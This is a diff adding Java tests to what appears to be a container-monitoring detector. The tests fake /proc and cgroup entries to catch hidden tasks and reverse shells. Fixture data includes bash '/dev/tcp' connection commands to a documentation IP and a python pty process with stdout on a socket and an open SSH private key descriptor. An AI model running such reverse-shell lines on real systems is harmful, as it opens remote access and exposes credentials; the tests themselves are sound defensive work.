@@ -731,6 +731,101 @@ class NativeLookTest {
         assertThat(new HostView(proc, cgroups).tree(cgroups.resolve("lxc.payload.coi-ur")).beyond()).startsWith("hidden (");
     }
 
+    /**
+     * Processes moved out of the walk's way (root inside sees the host read each cgroup.procs and moves them into one
+     * read already): pids.current counts their tasks, the walk falls short, and both looks find them by scanning /proc
+     * for the ones whose cgroup line (v1 pids, comounted or not; a v1 zombie in "/" by its v2 line; v2 "0::") is under
+     * the container's, added in pid order; another container's whose name only starts the same, and the host's, not.
+     */
+    @Test
+    void processesMovedOutOfTheWalksWayAreFoundByScanningProcInPidOrder() throws IOException {
+        for (String layout : List.of("pids/", "")) {
+            String name = layout.isEmpty() ? "coi-mv2" : "coi-mv1";
+            Path top = cgroups.resolve(layout + "lxc.payload." + name);
+            cgroup(layout, name, List.of(), Map.of("init.scope", List.of(1), "user.slice", List.of()));
+            write(top.resolve("pids.current"), layout.isEmpty() ? "4\n" : "6\n");
+        }
+        process(1, "/sbin/init", "/sbin/init");
+        Files.writeString(proc.resolve("1/cgroup"), "8:pids:/lxc.payload.coi-mv1/init.scope\n0::/lxc.payload.coi-mv2/init.scope\n");
+        process(330, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/1");
+        Files.writeString(proc.resolve("330/cgroup"), "9:cpu,pids:/lxc.payload.coi-mv1/user.slice\n0::/lxc.payload.coi-mv2/user.slice/x\n");
+        stat(330, "bash", "S", 3);
+        process(320, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/2");
+        Files.writeString(proc.resolve("320/cgroup"), "8:pids:/\n0::/lxc.payload.coi-mv1/user.slice\n0::/lxc.payload.coi-mv2\n");
+        stat(320, "bash", "Z", 2);
+        process(310, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/3"); // another container's
+        Files.writeString(proc.resolve("310/cgroup"), "8:pids:/lxc.payload.coi-mv10\n0::/lxc.payload.coi-mv20\n");
+        process(300, "/usr/bin/bash", "bash", "-c", "exec 3<>/dev/tcp/198.51.100.10/4"); // the host's
+        Files.writeString(proc.resolve("300/cgroup"), "8:pids:/user.slice\n0::/user.slice\n");
+        Found found = compare(new Target("coi-mv1"), new Target("coi-mv2"));
+        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsExactly(320, 330, 330);
+        assertThat(new HostView(proc, cgroups).tree(cgroups.resolve("pids/lxc.payload.coi-mv1")).beyond()).isNull();
+    }
+
+    /**
+     * Tasks pids.current counts that neither two walks nor the scan find: HostView counts them as unaccounted for (its
+     * guard raises them when that lasts) and so does the native look (its watch hands the container back when that
+     * lasts; one look at them, `--look`, is too much at once). An empty walk of such a container is no container
+     * stopping either; a pids.current that cannot be read is too much; none (a hierarchy without the pids
+     * controller) is nothing to count against.
+     */
+    @Test
+    void tasksNoWalkNorScanFindsAreTooMuch() throws IOException {
+        cgroup("pids/", "coi-hid", List.of(1), Map.of("user.slice", List.of()));
+        Path top = cgroups.resolve("pids/lxc.payload.coi-hid");
+        write(top.resolve("pids.current"), "3\n");
+        process(1, "/sbin/init", "/sbin/init");
+        Files.writeString(proc.resolve("1/cgroup"), "8:pids:/lxc.payload.coi-hid\n");
+        assertThat(tooMuch(new Target("coi-hid"))).isEqualTo(TOO_MUCH + "coi-hid hides tasks from its cgroup walk: pids.current counts 2 more than"
+                + " walking twice and scanning /proc found\n");
+        assertThat(new HostView(proc, cgroups).tree(top)).isEqualTo(new HostView.Tree(List.of(1), null, 2));
+        write(top.resolve("cgroup.procs"), "");
+        Files.writeString(proc.resolve("1/cgroup"), "8:pids:/elsewhere\n");
+        assertThat(tooMuch(new Target("coi-hid"))).contains("coi-hid hides every task from its cgroup walk: pids.current counts 3,");
+        assertThat(new HostView(proc, cgroups).tree("coi-hid", top)).isEqualTo(new HostView.Tree(List.of(), null, 3));
+        Files.delete(top.resolve("pids.current"));
+        Files.createDirectories(top.resolve("pids.current"));
+        assertThat(tooMuch(new Target("coi-hid"))).contains("the pids.current of coi-hid cannot be read");
+        assertThat(new HostView(proc, cgroups).tree(top).beyond()).startsWith("pids.current cannot be read");
+        Files.delete(top.resolve("pids.current"));
+        write(top.resolve("cgroup.procs"), "1\n");
+        compare(new Target("coi-hid"));
+    }
+
+    /**
+     * A process whose main thread ended while another runs: its leader is a zombie whose /proc/PID shows an empty
+     * command line, no exe, cwd or descriptors. Both looks read those from its first live thread (lowest tid, not
+     * the leader, its state not Z or X); with none, from the leader.
+     */
+    @Test
+    void aLeaderThatEndedBeforeItsThreadsIsReadThroughItsFirstLiveThread() throws IOException {
+        cgroup("", "coi-z", List.of(1, 340, 341), Map.of());
+        process(1, "/sbin/init", "/sbin/init");
+        net(1, "tcp", tcp(v4("10.0.0.2", 40000), v4(REMOTE, 4444), "01", 9500));
+        for (int pid : List.of(340, 341)) {
+            process(pid, null);
+            stat(pid, "x", "Z", 4);
+            write(proc.resolve(pid + "/task/" + pid + "/stat"), pid + " (x) Z 1\n");
+            write(proc.resolve(pid + "/task/" + (pid + 100) + "/stat"), (pid + 100) + " (x) X 1\n");
+            write(proc.resolve(pid + "/task/" + (pid + 300) + "/stat"), (pid + 300) + " (x) S 1\n");
+            Path thread = proc.resolve(pid + "/task/" + (pid + 200));
+            write(thread.resolve("stat"), (pid + 200) + " (x) S 1\n");
+            Files.write(thread.resolve("cmdline"), b("python3\0-c\0import pty\0"));
+            Files.createSymbolicLink(thread.resolve("exe"), Path.of("/usr/bin/python3.11"));
+            Files.createSymbolicLink(thread.resolve("cwd"), Path.of("/tmp"));
+            Files.createDirectories(thread.resolve("fd"));
+            Files.createSymbolicLink(thread.resolve("fd/1"), Path.of("socket:[9500]"));
+            Files.createSymbolicLink(thread.resolve("fd/3"), Path.of("/home/code/.ssh/id_ed25519"));
+        }
+        // no live thread: read from the leader (nothing to tell by)
+        Files.delete(proc.resolve("341/task/541/stat"));
+        Files.delete(proc.resolve("341/task/641/stat"));
+        Found found = compare(new Target("coi-z"));
+        assertThat(found.threats()).extracting(Threat::title).contains("reverse shell: python3.11 with its stdout on a connection to " + REMOTE + ":4444");
+        assertThat(found.threats()).extracting(t -> t.evidence().process().pid()).containsOnly(340);
+        assertThat(found.threats().getFirst().evidence().process().cmdline()).containsExactly("python3", "-c", "import pty");
+    }
+
     @Test
     void aCgroupNestedBeyondAPathIsTooMuch() throws IOException {
         cgroup("", "coi-deep", List.of(1), Map.of());
@@ -987,6 +1082,11 @@ class NativeLookTest {
         if (exe != null) Files.createSymbolicLink(dir.resolve("exe"), Path.of(exe));
         if (rawExe != null) rawLink(dir.resolve("exe"), rawExe);
         Files.createSymbolicLink(dir.resolve("cwd"), Path.of("/workspace"));
+    }
+
+    /** A process's stat with its state and num_threads (the 20th field). */
+    private void stat(int pid, String comm, String state, int threads) throws IOException {
+        write(proc.resolve(pid + "/stat"), pid + " (" + comm + ") " + state + " 1 1 1 0 -1 0 0 0 0 0 0 0 0 0 20 0 " + threads + " 0 0\n");
     }
 
     private void fd(int pid, int fd, String target) throws IOException {
